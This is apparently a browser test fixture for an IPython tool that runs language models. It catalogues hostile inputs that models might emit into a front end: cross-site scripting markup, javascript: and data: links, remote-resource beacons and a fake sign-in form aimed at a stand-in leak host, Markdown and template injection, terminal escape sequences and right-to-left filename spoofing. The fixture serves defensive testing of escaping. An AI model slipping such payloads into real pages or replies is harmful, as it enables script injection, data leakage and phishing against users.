"""What a text, a model or a person may write to make a front end do something, and the run it goes into.

Every payload that acts does one of three things: it sets `window.pwned`, opens a dialog, or asks for LEAK.
"""

from __future__ import annotations

LEAK = "http://leak.invalid"

# Markup that acts where it is not escaped: each of these does something in a page that takes it as it is.
MARKUP = {
    "script": "<script>window.pwned = 1</script>",
    "script_from_elsewhere": f'<script src="{LEAK}/s.js"></script>',
    "out_of_the_tag": "\"'></pre></summary></details></div></svg><script>window.pwned = 1</script>",
    "out_of_the_title": "</title></style></textarea></noscript><script>window.pwned = 1</script>",
    "handler_on_error": '<img src="x:" onerror="window.pwned = 1">',
    "handler_on_load": '<body onload="window.pwned = 1"><svg onload="window.pwned = 1">',
    "handler_on_toggle": '<details open ontoggle="window.pwned = 1"><summary>open</summary></details>',
    "handler_on_focus": '<input autofocus onfocus="window.pwned = 1">',
    "handler_on_hover": '<b onmouseover="window.pwned = 1">hover</b>',
    "handler_in_svg": '<svg><animate onbegin="window.pwned = 1" attributeName="x" dur="1s"/></svg>',
    "svg_with_script": "<svg><script>window.pwned = 1</script></svg>",
    "svg_with_html": '<svg><foreignObject><iframe srcdoc="<script>parent.pwned = 1</script>"/></svg>',
    "svg_link": '<svg><a xlink:href="javascript:window.pwned = 1"><text y="20">click</text></a></svg>',
    "math_link": '<math href="javascript:window.pwned = 1">click</math>',
    "remote_picture": f'<img src="{LEAK}/p.png">',
    "remote_style": f'<link rel="stylesheet" href="{LEAK}/s.css"><style>@import "{LEAK}/t.css";</style>',
    "remote_background": f'<div style="background:url({LEAK}/b.png)">styled</div>',
    "remote_frame": f'<iframe src="{LEAK}/f.html"></iframe>',
    "frame_of_data": '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "redirect": f'<meta http-equiv="refresh" content="1;url={LEAK}/r.html">',
    "javascript_link": '<a href="javascript:window.pwned = 1">click</a>',
    "entity_link": '<a href="&#106;avascript:window.pwned = 1">click</a>',
    "cover": '<div style="position:fixed;inset:0;background:red;z-index:99999">covered</div>',
    "form": f'<form action="{LEAK}/f"><button>Sign in</button></form>',
}

# What becomes markup, or worse, where it is taken for Markdown, a template, a terminal's or a browser's text.
TRICKS = {
    "markdown_picture": f"![logo]({LEAK}/p.png)",
    "markdown_picture_by_reference": f"![logo][l]\n\n[l]: {LEAK}/p.png",
    "markdown_script_link": "[click](javascript:window.pwned=1)",
    "markdown_data_link": "[click](data:text/html,<script>alert(1)</script>)",
    "markdown_reference": "[click][j]\n\n[j]: javascript:window.pwned=1",
    "markdown_autolink": "<javascript:window.pwned=1>",
    "markdown_fence_in_mid_line": "text ```\n<img src=x: onerror=window.pwned=1>\n```",
    "markdown_indented": "    code\n\n\t<script>window.pwned = 1</script>",
    "markdown_entities": "&lt;script&gt;window.pwned = 1&lt;/script&gt; &#60;script&#62;window.pwned = 1",
    "markdown_math": "$$\\href{javascript:window.pwned=1}{click}$$ $\\require{html}\\unicode{0}$",
    "markdown_diagram": '```mermaid\ngraph TD\nA[one] --> B[two]\nclick A "javascript:window.pwned=1"\n```',
    "template": "{{ 7 * 7 }} {% include 'page.html' %} {{ ''.__class__ }} ${7 * 7}",
    "ansi": "\x1b[2J\x1b[H\x1b]0;title\x07\x1b]8;;javascript:window.pwned=1\x07click\x1b]8;;\x07\x1b[8mgone",
    "carriage_returns": "what you do not see\r\x0b\x0c\x85 what you see\b\b\b\b",
    "right_to_left": "safe\u202egpj.exe\u202c \u2066isolate\u2069 \u061cmark \u200bzero\ufeffwidth",
    "stacked_marks": "".join("Z" + "\u0310\u0335\u0323" * 60 for _ in range(40)),
    "lone_surrogates_and_nul": "nul \x00 and \ufffe\uffff",
    "very_long_word": "w" * 5_000 + " " + "\u00a0" * 3_000 + "end",
    "very_deep": "<div>" * 3_000 + ">" * 3_000,
}

PAYLOADS = {**MARKUP, **TRICKS}

SETUP = """%load_ext rlm_magic
from IPython.display import display
from rlm_magic.errors import ModelError
from rlm_magic.models import ScriptedModel
from tests.browser.hostile import PAYLOADS, replies

shell = get_ipython()

def attack(name):
    payload = PAYLOADS[name]
    shell.push({
        "prey": [(payload, f"{payload}\\nprey\\n"), (f"other {payload}", "prey, too\\n")],
        "root": ScriptedModel(replies(payload), name=f"root {payload}"),
        "sub": ScriptedModel(lambda messages: payload, name=f"sub {payload}"),
    })
    display(shell.run_line_magic("rlm_context", "target $prey"))
    target = shell.user_ns["target"]
    display(target.documents, *target.documents.values(), target.search("prey"))
    shell.run_cell_magic("rlm", "-m $root -s $sub -o ans", f"{payload} ?")
    shell.user_ns["ans"].save(f"{name}.html")
    return shell.user_ns["ans"]

def broken(name):
    def fail(messages):
        raise ModelError(PAYLOADS[name])
    shell.push({"unreached": ScriptedModel(fail, name="unreached")})
    shell.run_line_magic("rlm", "-m $unreached why?")
"""


def replies(payload: str) -> list[str]:
    """Return the replies of a root model that puts `payload` wherever a model can put something."""
    shown = f"print({payload!r}); {payload!r}"
    asked = f"reply = llm_query({payload!r} + context[0:2])\nprint(reply)"
    failed = f"kept = {{{payload!r}: {payload!r}}}\nraise ValueError({payload!r})"
    ended = f"FINAL({payload!r} + ' [L0-L1] [L9]')"
    # The code first: a payload may open a fence that swallows whatever follows it.
    return [f"~~~~~~repl\n{code}\n~~~~~~\n\n{payload}" for code in (shown, asked, failed, ended)]
